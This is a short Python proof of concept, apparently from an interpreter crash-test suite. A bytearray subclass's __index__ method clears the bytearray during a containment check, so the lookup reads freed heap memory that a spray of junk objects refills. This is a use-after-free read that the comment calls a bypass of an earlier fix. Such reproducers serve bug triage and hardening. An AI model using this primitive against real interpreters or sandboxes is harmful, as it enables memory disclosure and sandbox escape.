# technique: `x in ba` with x a bytearray SUBCLASS defining __index__: pyfix ba_contains passes buffer-typed args unconverted, then _Py_bytes_contains(buf, len, x) runs PyNumber_AsSsize_t(x) -> x.__index__ clears ba (frees the buffer) -> memchr over the freed block, refilled by a spray (read oracle over freed heap; 479 bypass via sq_contains)
# expect: any
class J(bytearray):
    def __index__(self):
        c.clear()
        junk.extend(bytearray(b"\x07" * 70) for _ in range(200))
        return 7
junk = []
c = bytearray(b"\x00" * 64)
r = J() in c
print("7 in ba:", r, "len(ba) =", len(c), "bytes actually in ba:", bytes(c))
